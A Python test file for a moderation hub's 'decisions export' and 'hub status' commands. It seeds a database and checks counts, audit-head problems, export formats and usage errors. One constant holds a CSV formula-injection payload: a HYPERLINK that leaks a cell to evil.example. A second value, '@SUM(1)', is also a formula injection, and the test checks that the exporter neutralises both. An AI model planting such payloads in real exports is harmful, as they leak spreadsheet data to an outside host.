"""`moderator hub decisions export` and `hub status` on real hub databases (SQLite and PostgreSQL), against
rows written here with SQLAlchemy Core: every decision exported in both formats (CSV cells neutralised),
the status numbers, the desks whose audit head went back or was rewritten, and every usage error."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta

import pytest

from moderator.clock import iso, parse_iso, utc_now
from moderator.csv_cells import restore
from tests.test_hub_import import HubDb, hub_db_fixture, run  # noqa: F401 (the hub_db fixture)
from upstream.db import open_hub, read_tx, write_tx
from upstream.items import MediaInfo, add_item, add_media
from upstream.reports import EXPORT_COLUMNS, head_problems, hub_status
from upstream.schema import decisions, desk_heads, items, leases

FIXED_NOW = parse_iso("2026-11-20T12:00:00Z")
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def at(now: datetime, **delta) -> str:
    return iso(now + timedelta(**delta))


def seed(hub_db: HubDb, now: datetime) -> dict:
    """A hub with items in every state, leases live, expired and ended, decisions of three teams today
    and one yesterday, and desks pushing good and bad audit heads; what a report should say of it."""
    engine = open_hub(hub_db.url)
    try:
        with write_tx(engine) as conn:
            sha = add_media(conn, hub_db.data_dir, b"\x89PNG not decoded here",
                            MediaInfo(mime="image/png", kind="image", width=1, height=1))
            ids = {name: add_item(conn, sha, external_id=f"ext-{name}", imported_at=at(now, hours=-h),
                                  sla_due_at=at(now, hours=1) if name == "oldest" else None)
                   for name, h in [("oldest", 30), ("waiting", 2), ("held_a", 3), ("held_b", 3), ("lapsed", 4),
                                   ("done1", 5), ("done2", 5), ("escalated", 6)]}
            _statuses(conn, ids, now)
            _leases(conn, ids, now)
            rows = _decisions(conn, ids, now)
            _heads(conn, now)
    finally:
        engine.dispose()
    return {"ids": ids, "sha": sha, "decisions": rows}


def _statuses(conn, ids: dict, now: datetime) -> None:
    for name, status in [("done1", "decided"), ("done2", "decided"), ("escalated", "escalated")]:
        conn.execute(items.update().where(items.c.id == ids[name]).values(status=status))
    for name, lease_id, expires in [("held_a", "L-a", at(now, days=1)), ("held_b", "L-b", at(now, days=1)),
                                    ("lapsed", "L-old", at(now, days=-1))]:
        conn.execute(items.update().where(items.c.id == ids[name]).values(lease_id=lease_id, lease_expires_at=expires))


def _leases(conn, ids: dict, now: datetime) -> None:
    for lease_id, name, desk, expires, ended in [
            ("L-a", "held_a", "desk-a", at(now, days=1), None), ("L-b", "held_b", "desk-b", at(now, days=1), None),
            ("L-old", "lapsed", "desk-b", at(now, days=-1), None),
            ("L-done", "done1", "desk-a", at(now, days=1), at(now, hours=-1))]:
        conn.execute(leases.insert().values(lease_id=lease_id, item_id=ids[name], actor="alice", desk=desk,
                                            acquired_at=at(now, days=-2), expires_at=expires, ended_at=ended,
                                            end_reason="decided" if ended else None))


def _decisions(conn, ids: dict, now: datetime) -> list[dict]:
    day_start = now.replace(hour=0, minute=0, second=0, microsecond=0)
    specs = [  # (item, team, status, decided_at, note)
        ("done1", "in-house", "accepted", at(day_start, minutes=1), INJECTION),
        ("done2", "in-house", "accepted", at(day_start, hours=2), None),
        ("done1", "vendor", "conflict", at(day_start, hours=3), "@SUM(1)"),
        ("escalated", "vendor", "accepted", at(day_start, minutes=-1), None),  # yesterday
        ("done2", None, "accepted", at(day_start, hours=4), "md5 match: entry 1 at distance 0"),
    ]
    rows = []
    for n, (item, team, status, decided_at, note) in enumerate(specs):
        row = {"uuid": f"00000000-0000-4000-8000-00000000000{n}", "item_id": ids[item], "lease_id": f"L-{n}",
               "actor": "bank:spam" if team is None else f"mod-{n}", "team": team, "desk": "hub" if team is None else "desk-a",
               "labels": json.dumps(["spam", "hate_symbol"] if n == 1 else ["spam"]), "action": "remove",
               "decided_at": decided_at, "received_at": at(now, minutes=n - 10), "handle_ms": 1000 + n,
               "exposure_ms": 10 * n, "batch_id": "batch-1" if n < 2 else None, "supersedes": None,
               "qa_of": None, "policy_version": "2026-11-01", "source": "bank" if team is None else "manual",
               "note": note, "status": status,
               "reason": "item was decided already under another lease" if status == "conflict" else None}
        conn.execute(decisions.insert().values(**row))
        rows.append(row)
    return rows


HEADS = [  # (desk, actor, hash, count)
    ("desk-ok", "alice", "h1", 10), ("desk-cut", "bob", "hA", 20), ("desk-ok", "alice", "h2", 12),
    ("desk-cut", "bob", "hB", 15), ("desk-rw", "mallory", "hC", 30), ("desk-rw", "mallory", "hD", 30),
    ("desk-idle", "carol", "hE", 5), ("desk-idle", "carol", "hE", 5), ("desk-stuck", "dan", "hF", 5),
    ("desk-stuck", "dan", "hF", 7),
]


def _heads(conn, now: datetime) -> None:
    for n, (desk, actor, audit_hash, count) in enumerate(HEADS):
        conn.execute(desk_heads.insert().values(desk=desk, actor=actor, audit_hash=audit_hash, audit_count=count,
                                                received_at=at(now, minutes=n)))


def status_of(hub_db: HubDb, now: datetime) -> dict:
    engine = open_hub(hub_db.url)
    try:
        with read_tx(engine) as conn:
            return hub_status(conn, now)
    finally:
        engine.dispose()


def test_status_counts_what_the_rows_say(hub_db):
    seeded = seed(hub_db, FIXED_NOW)
    s = status_of(hub_db, FIXED_NOW)
    assert s["items"] == {"pending": 3, "leased": 2, "decided": 2, "escalated": 1}  # an expired lease is pending
    assert s["leases"] == {"live": 2, "by_desk": {"desk-a": 1, "desk-b": 1}}  # not the expired nor the ended one
    assert s["oldest"] == {"id": seeded["ids"]["oldest"], "imported_at": "2026-11-19T06:00:00.000Z",
                           "age_s": 30 * 3600, "sla_due_at": "2026-11-20T13:00:00.000Z"}
    today = s["decisions_today"]
    assert (today["day"], today["accepted"], today["conflict"]) == ("2026-11-20", 3, 1)
    assert today["by_team"] == [{"team": "in-house", "accepted": 2, "conflict": 0},
                                {"team": "vendor", "accepted": 0, "conflict": 1},
                                {"team": None, "accepted": 1, "conflict": 0}]
    problems = {(h["desk"], h["actor"], h["problem"]) for h in s["desk_heads"]}
    assert problems == {("desk-cut", "bob", "went_back"), ("desk-rw", "mallory", "rewritten"),
                        ("desk-stuck", "dan", "unchanged_hash")}
    cut = next(h for h in s["desk_heads"] if h["desk"] == "desk-cut")
    assert (cut["previous"]["count"], cut["head"]["count"]) == (20, 15) and "from 20 to 15" in cut["text"]


def test_status_of_an_empty_hub(hub_db):
    s = status_of(hub_db, FIXED_NOW)
    assert s["items"] == {"pending": 0, "leased": 0, "decided": 0, "escalated": 0}
    assert s["oldest"] is None and s["leases"]["live"] == 0 and s["desk_heads"] == []


@pytest.mark.parametrize(("heads", "expected"), [
    ([("d", 10, "a"), ("d", 11, "b"), ("d", 11, "b")], []),  # grew, then the same head again
    ([("d", 10, "a"), ("d", 9, "b")], ["went_back"]),
    ([("d", 10, "a"), ("d", 10, "b")], ["rewritten"]),
    ([("d", 10, "a"), ("d", 12, "a")], ["unchanged_hash"]),
    ([("d", 10, "a"), ("e", 3, "x"), ("d", 4, "b"), ("d", 5, "c")], ["went_back"]),  # each desk on its own
])
def test_head_problems_compare_each_push_with_the_desks_previous_one(heads, expected):
    rows = [{"desk": d, "actor": "a", "audit_count": c, "audit_hash": h, "received_at": "t"} for d, c, h in heads]
    assert [p.problem for p in head_problems(rows)] == expected


def test_status_command_json_and_lines(hub_db, capsys):
    now = utc_now()
    seeded = seed(hub_db, now)
    code, out, _ = run(capsys, *hub_db.argv("status", "--json"))
    s = json.loads(out)
    assert code == 0 and s["items"] == {"pending": 3, "leased": 2, "decided": 2, "escalated": 1}
    assert s["leases"]["by_desk"] == {"desk-a": 1, "desk-b": 1} and s["oldest"]["id"] == seeded["ids"]["oldest"]
    on_that_day = [d for d in seeded["decisions"] if d["decided_at"].startswith(s["decisions_today"]["day"])]
    assert s["decisions_today"]["accepted"] == sum(d["status"] == "accepted" for d in on_that_day)
    code, out, _ = run(capsys, *hub_db.argv("status"))
    lines = out.splitlines()
    assert code == 0 and [line[:11].strip() for line in lines[:5]] == ["items", "leases", "oldest", "today", "desk heads"]
    assert lines[0].endswith("pending 3  leased 2  decided 2  escalated 1")
    assert lines[1].endswith("2 live (desk-a 1, desk-b 1)")
    assert any("desk desk-rw (mallory): audit log rewritten" in line for line in lines)
    assert len({line.index(line[11:].lstrip()) for line in lines if line[11:].strip()}) == 1  # aligned


def test_export_jsonl_has_every_decision_with_its_item(hub_db, capsys):
    seeded = seed(hub_db, FIXED_NOW)
    code, out, _ = run(capsys, *hub_db.argv("decisions", "export", "--format", "jsonl"))
    rows = [json.loads(line) for line in out.splitlines()]
    assert code == 0 and [r["uuid"] for r in rows] == [d["uuid"] for d in seeded["decisions"]]
    assert list(rows[0]) == list(EXPORT_COLUMNS)
    by_uuid = {d["uuid"]: d for d in seeded["decisions"]}
    for r in rows:
        want = by_uuid[r["uuid"]]
        assert {k: r[k] for k in want if k != "labels"} == {k: v for k, v in want.items() if k != "labels"}
        assert r["labels"] == json.loads(want["labels"]) and r["sha256"] == seeded["sha"]
        assert r["external_id"] == next(f"ext-{n}" for n, i in seeded["ids"].items() if i == r["item_id"])
    assert [r["status"] for r in rows].count("conflict") == 1


def test_export_csv_neutralises_formula_cells(hub_db, capsys):
    seed(hub_db, FIXED_NOW)
    code, out, _ = run(capsys, *hub_db.argv("decisions", "export", "--format", "csv"))
    table = list(csv.reader(io.StringIO(out)))
    assert code == 0 and tuple(table[0]) == EXPORT_COLUMNS and len(table) == 6
    notes = [row[EXPORT_COLUMNS.index("note")] for row in table[1:]]
    assert notes[0] == "'" + INJECTION and restore(notes[0]) == INJECTION
    assert notes[2] == "'@SUM(1)"
    assert table[2][EXPORT_COLUMNS.index("labels")] == "spam;hate_symbol"


def test_export_since_and_to_a_file(hub_db, tmp_path, capsys):
    seeded = seed(hub_db, FIXED_NOW)
    target = tmp_path / "out" / "decisions.jsonl"
    target.parent.mkdir()
    since = at(FIXED_NOW, minutes=-8)  # received_at of the third decision
    code, out, err = run(capsys, *hub_db.argv("decisions", "export", "--since", since, "--out", str(target)))
    assert code == 0 and out == "" and "wrote 3 decisions" in err
    got = [json.loads(line)["uuid"] for line in target.read_text().splitlines()]
    assert got == [d["uuid"] for d in seeded["decisions"][2:]]
    assert [p.name for p in target.parent.iterdir()] == ["decisions.jsonl"]  # no temporary file left


@pytest.mark.parametrize(("args", "needle"), [
    (["decisions", "export", "--format", "xml"], "invalid choice"),
    (["decisions", "export", "--out", "{folder}"], "it is a folder"),
    (["decisions", "export", "--out", "/no/such/dir/x.jsonl"], "no such folder"),
    (["decisions", "export", "--since", "last tuesday"], "expected an ISO 8601 time"),
    (["decisions", "export", "--db", "nonsense://x"], "unsupported database 'nonsense'"),
    (["decisions", "export"], "no hub database at"),
    (["status"], "no hub database at"),
])
def test_report_usage_errors_are_one_line_exit_2_and_write_nothing(tmp_path, capsys, args, needle):
    folder = tmp_path / "existing"
    folder.mkdir()
    data = tmp_path / "no-hub"
    code, out, err = run(capsys, "hub", *[a.format(folder=folder) for a in args], "--data-dir", str(data))
    assert code == 2 and needle in err and len(err.strip().splitlines()) == 1 and out == ""
    assert not data.exists() and list(folder.iterdir()) == []


def test_export_to_a_folder_on_a_real_hub_writes_nothing(hub_db, tmp_path, capsys):
    seed(hub_db, FIXED_NOW)
    code, _, err = run(capsys, *hub_db.argv("decisions", "export", "--out", str(tmp_path)))
    assert code == 2 and "it is a folder" in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["hub"]
